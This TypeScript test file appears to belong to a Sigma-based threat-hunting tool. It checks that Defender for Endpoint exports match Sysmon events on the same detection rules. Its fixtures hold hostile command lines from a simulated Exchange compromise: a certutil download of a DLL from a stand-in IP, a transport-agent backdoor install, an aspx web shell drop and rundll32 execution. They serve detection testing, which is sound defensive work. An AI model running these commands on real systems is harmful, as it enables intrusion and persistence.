// Defender for Endpoint exports meet the same Sigma rules as the equivalent Sysmon events
// (a differential test), from CSV and from JSON.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { tmpdir } from 'node:os';
import { defenderEvent, defenderMap, parseDefenderMap, tableFromColumns, isDefenderExport } from '../../src/events/defender.js';
import { toEvent } from '../../src/events/normalize.js';
import { readCsvRecords } from '../../src/sources/csv/reader.js';
import { readJsonRecords } from '../../src/sources/json/reader.js';
import { loadRules } from '../../src/hunt/load-rules.js';
import { RuleSet } from '../../src/sigma/ruleset.js';
import { csvRow } from '../../src/report/csv.js';
import type { Event, FieldValue } from '../../src/events/model.js';
import { CORPORA, SKIP_NO_CORPORA } from '../support/corpora.js';

const HOST = 'EXCH01.corp.example';
const EX = 'C:\\Program Files\\Microsoft\\Exchange Server\\V15';
const HASH = { SHA1: 'A94A8FE5CCB19BA61C4C0873D391E987982FBBD3', MD5: '098F6BCD4621D373CADE4E832627B4F6', SHA256: '9F86D081884C7D659A2FEAE0C5A6A8B08C5B8E1C3B1E8A5C7F8E8F0B7D1C2E3F' };

interface Proc { t: string; image: string; cmd: string; parent: string; parentCmd: string; user: [string, string]; pid: number; ppid: number; ofn: string }
interface FileW { t: string; target: string; image: string; cmd: string; pid: number; user: [string, string] }
interface Load { t: string; loaded: string; image: string; cmd: string; pid: number; user: [string, string] }

const procs: Proc[] = [
  { t: '2026-11-02T13:07:19.402Z', image: 'C:\\Windows\\System32\\cmd.exe', cmd: 'cmd.exe /c whoami /all', parent: `${EX}\\Bin\\EdgeTransport.exe`, parentCmd: `"${EX}\\Bin\\EdgeTransport.exe"`, user: ['NT AUTHORITY', 'NETWORK SERVICE'], pid: 6120, ppid: 4412, ofn: 'Cmd.Exe' },
  { t: '2026-11-02T09:43:02.734Z', image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', cmd: `powershell.exe -Command "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; Install-TransportAgent -Name 'Connection Filtering Agent' -TransportAgentFactory Microsoft.Exchange.Transport.Agent.ConnectionFiltering.ConnectionFilteringAgentFactory -AssemblyPath '${EX}\\TransportRoles\\agents\\Hygiene\\x.dll'"`, parent: 'C:\\Windows\\explorer.exe', parentCmd: 'C:\\Windows\\Explorer.EXE', user: ['CORP', 'exadmin'], pid: 5120, ppid: 3300, ofn: 'PowerShell.EXE' },
  { t: '2026-11-02T13:10:00.000Z', image: 'C:\\Windows\\System32\\certutil.exe', cmd: 'certutil.exe -urlcache -split -f http://198.51.100.7/a.dll C:\\Users\\Public\\a.dll', parent: 'C:\\Windows\\System32\\cmd.exe', parentCmd: 'cmd.exe /c certutil', user: ['NT AUTHORITY', 'NETWORK SERVICE'], pid: 6300, ppid: 6120, ofn: 'CertUtil.exe' },
  { t: '2026-11-02T08:01:12.100Z', image: 'C:\\Windows\\System32\\svchost.exe', cmd: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p', parent: 'C:\\Windows\\System32\\services.exe', parentCmd: 'C:\\Windows\\system32\\services.exe', user: ['NT AUTHORITY', 'SYSTEM'], pid: 900, ppid: 700, ofn: 'svchost.exe' },
];
const files: FileW[] = [
  { t: '2026-11-02T09:41:55.020Z', target: `${EX}\\TransportRoles\\agents\\Hygiene\\Microsoft.Exchange.Transport.Agent.ConnectionFiltering.dll`, image: procs[1]!.image, cmd: 'powershell.exe', pid: 5120, user: ['CORP', 'exadmin'] },
  { t: '2026-11-02T13:11:00.000Z', target: 'C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx', image: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe', cmd: 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "MSExchangeOWAAppPool"', pid: 3000, user: ['NT AUTHORITY', 'SYSTEM'] },
  { t: '2026-11-02T13:12:00.000Z', target: 'C:\\Users\\Public\\a.dll', image: 'C:\\Windows\\System32\\certutil.exe', cmd: 'certutil.exe -urlcache', pid: 6300, user: ['NT AUTHORITY', 'NETWORK SERVICE'] },
];
const loads: Load[] = [
  { t: '2026-11-02T13:00:00.000Z', loaded: `${EX}\\TransportRoles\\agents\\Hygiene\\Microsoft.Exchange.Transport.Agent.ConnectionFiltering.dll`, image: `${EX}\\Bin\\EdgeTransport.exe`, cmd: 'EdgeTransport.exe', pid: 4412, user: ['NT AUTHORITY', 'NETWORK SERVICE'] },
  { t: '2026-11-02T13:05:00.000Z', loaded: 'C:\\Users\\Public\\dbghelp.dll', image: 'C:\\Windows\\System32\\rundll32.exe', cmd: 'rundll32.exe C:\\Users\\Public\\a.dll,Start', pid: 6400, user: ['CORP', 'exadmin'] },
];

const base = (t: string) => ({ Timestamp: t, DeviceId: 'f00dfeed', DeviceName: HOST, ReportId: 1 });
const init = (image: string, cmd: string, pid: number, user: [string, string]) => ({
  InitiatingProcessFolderPath: image, InitiatingProcessFileName: image.split('\\').pop()!, InitiatingProcessCommandLine: cmd, InitiatingProcessId: pid,
  InitiatingProcessAccountDomain: user[0], InitiatingProcessAccountName: user[1],
});
const defenderRows: Record<string, FieldValue>[] = [
  ...procs.map((p) => ({
    ...base(p.t), ActionType: 'ProcessCreated', FileName: p.image.split('\\').pop()!, FolderPath: p.image, ProcessCommandLine: p.cmd, ProcessId: p.pid,
    AccountDomain: p.user[0], AccountName: p.user[1], ProcessVersionInfoOriginalFileName: p.ofn, ...HASH,
    ...init(p.parent, p.parentCmd, p.ppid, ['CORP', 'exadmin']),
  })),
  ...files.map((f) => ({ ...base(f.t), ActionType: 'FileCreated', FileName: f.target.split('\\').pop()!, FolderPath: f.target, PreviousFolderPath: '', ...HASH, ...init(f.image, f.cmd, f.pid, f.user) })),
  ...loads.map((l) => ({ ...base(l.t), ActionType: 'ImageLoaded', FileName: l.loaded.split('\\').pop()!, FolderPath: l.loaded, ...HASH, ...init(l.image, l.cmd, l.pid, l.user) })),
];

function sysmon(id: number, t: string, data: Record<string, FieldValue>): unknown {
  return { Event: { System: { Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } }, EventID: id, TimeCreated: { '#attributes': { SystemTime: t } }, Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: HOST }, EventData: data } };
}
const hashes = `SHA1=${HASH.SHA1},MD5=${HASH.MD5},SHA256=${HASH.SHA256}`;
const sysmonEvents = [
  ...procs.map((p) => sysmon(1, p.t, { Image: p.image, CommandLine: p.cmd, ProcessId: p.pid, User: `${p.user[0]}\\${p.user[1]}`, OriginalFileName: p.ofn, Hashes: hashes, ParentImage: p.parent, ParentCommandLine: p.parentCmd, ParentProcessId: p.ppid, ParentUser: 'CORP\\exadmin' })),
  ...files.map((f) => sysmon(11, f.t, { Image: f.image, TargetFilename: f.target, ProcessId: f.pid, User: `${f.user[0]}\\${f.user[1]}`, Hashes: hashes, CommandLine: f.cmd })),
  ...loads.map((l) => sysmon(7, l.t, { Image: l.image, ImageLoaded: l.loaded, ProcessId: l.pid, User: `${l.user[0]}\\${l.user[1]}`, Hashes: hashes, CommandLine: l.cmd })),
];

const ids = (rs: RuleSet, e: Event) => rs.match(e).map((h) => h.rule.meta.id ?? h.rule.meta.title).sort();

test('each Defender table is recognised from its rows and its columns', () => {
  const m = defenderMap();
  assert.equal(defenderEvent(defenderRows[0]!, null, { file: 'x', kind: 'csv', line: 2 })!.logsource.category, 'process_creation');
  assert.equal(defenderEvent(defenderRows[4]!, null, { file: 'x', kind: 'csv', line: 2 })!.logsource.category, 'file_event');
  assert.equal(defenderEvent(defenderRows[7]!, null, { file: 'x', kind: 'csv', line: 2 })!.logsource.category, 'image_load');
  assert.equal(defenderEvent({ ...defenderRows[4]!, ActionType: 'FileDeleted' }, null, { file: 'x', kind: 'csv' })!.logsource.category, 'file_delete');
  assert.equal(tableFromColumns(m, Object.keys(defenderRows[0]!)), 'DeviceProcessEvents');
  assert.equal(tableFromColumns(m, ['Timestamp', 'DeviceName', 'RegistryKey', 'RegistryValueName']), 'DeviceRegistryEvents');
  assert.equal(tableFromColumns(m, ['Timestamp', 'DeviceName', 'FolderPath', 'InitiatingProcessFolderPath']), 'DeviceImageLoadEvents');
  assert.ok(isDefenderExport(Object.keys(defenderRows[5]!)));
  assert.ok(!isDefenderExport(['Timestamp', 'Message']));
  const reg = defenderEvent({ Timestamp: '2026-11-02T13:00:00Z', DeviceName: HOST, ActionType: 'RegistryValueSet', RegistryKey: 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', RegistryValueName: 'x', RegistryValueData: 'c:\\a.exe' }, null, { file: 'x', kind: 'csv' })!;
  assert.equal(reg.fields['TargetObject'], 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x');
  assert.equal(reg.logsource.category, 'registry_set');
  assert.equal(reg.fields['User'], undefined, 'no account columns, no User');
  const p = defenderEvent(defenderRows[0]!, null, { file: 'x', kind: 'csv' })!;
  assert.equal(p.fields['User'], 'NT AUTHORITY\\NETWORK SERVICE');
  assert.equal(p.fields['Hashes'], hashes);
  assert.equal(p.fields['ProcessCommandLine'], procs[0]!.cmd, 'original column names stay');
  assert.equal(p.host, HOST);
  assert.throws(() => parseDefenderMap('x: 1', 'd.yaml'), /d\.yaml: expected 'tables'/);
});

test('Defender CSV and JSON exports fire the same SigmaHQ and bundled rules as the equivalent Sysmon events', { skip: SKIP_NO_CORPORA }, async () => {
  const loaded = loadRules([join(CORPORA, 'sigma-rules/windows/process_creation'), join(CORPORA, 'sigma-rules/windows/file/file_event'), join(CORPORA, 'sigma-rules/windows/image_load'), 'rules']);
  const rs = new RuleSet(loaded.docs.filter((d) => d.type === 'rule'));
  const dir = mkdtempSync(join(tmpdir(), 'th-mde-'));
  // One export per table, as the portal writes them.
  const tables: [string, Record<string, FieldValue>[]][] = [
    ['DeviceProcessEvents', defenderRows.slice(0, procs.length)],
    ['DeviceFileEvents', defenderRows.slice(procs.length, procs.length + files.length)],
    ['DeviceImageLoadEvents', defenderRows.slice(procs.length + files.length)],
  ];
  const fromCsv: Event[] = [], fromJson: Event[] = [];
  for (const [name, rows] of tables) {
    const cols = Object.keys(rows[0]!);
    const csv = join(dir, `${name}.csv`), json = join(dir, `${name}.json`);
    writeFileSync(csv, csvRow(cols) + rows.map((r) => csvRow(cols.map((c) => r[c]))).join(''));
    writeFileSync(json, JSON.stringify(rows, null, 2));
    let table: string | null = null;
    for await (const it of readCsvRecords(csv)) {
      if (it.kind === 'header') table = tableFromColumns(defenderMap(), it.columns);
      if (it.kind === 'record') fromCsv.push(defenderEvent(it.value, table, { file: csv, kind: 'csv', line: it.line })!);
      assert.notEqual(it.kind, 'error');
    }
    for await (const it of readJsonRecords(json)) if (it.kind === 'record') fromJson.push(toEvent(it.value, { file: json, kind: 'json', line: it.line })!);
  }
  const sys = sysmonEvents.map((e, i) => toEvent(e, { file: 's', kind: 'json', line: i + 1 })!);
  let fired = 0;
  sys.forEach((s, i) => {
    const want = ids(rs, s);
    fired += want.length;
    assert.deepEqual(ids(rs, fromCsv[i]!), want, `CSV row ${i}: ${JSON.stringify(fromCsv[i]!.fields).slice(0, 200)}`);
    assert.deepEqual(ids(rs, fromJson[i]!), want, `JSON row ${i}`);
  });
  assert.ok(fired >= 6, `only ${fired} rule matches on the Sysmon side; the differential means little`);
  // the transport-agent story: the EdgeTransport child and the Install-TransportAgent command line
  assert.ok(ids(rs, fromCsv[0]!).includes('797011dc-44f4-4e6f-9f10-a8ceefbe566b'), 'SigmaHQ WMI backdoor transport agent rule on the EdgeTransport child');
  assert.ok(ids(rs, fromCsv[1]!).includes('83809e84-4475-4b69-bc3e-4aad8568612f'), 'SigmaHQ Install-TransportAgent rule');
});
